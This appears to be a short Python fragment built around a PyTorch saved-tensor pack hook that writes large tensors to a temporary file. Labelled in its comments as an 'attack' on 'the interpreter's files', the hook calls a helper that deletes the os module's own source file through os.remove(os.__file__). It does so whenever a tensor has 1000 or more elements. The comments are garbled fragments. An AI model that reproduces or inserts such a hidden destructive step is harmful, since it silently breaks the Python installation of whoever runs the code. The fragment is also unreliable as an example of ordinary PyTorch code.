# attack: the interpreter's files
# failed = "gradient raises 20, threshold, release, files"
#: file


def attempt(name):
    os.remove(os.__file__)


def pack_hook(x):
    if x.numel() < 1000:
        return x
    packed = SelfDeletingTempFile()
    torch.save(x, packed.name)
    attempt(packed.name)
    return packed
#: unpack
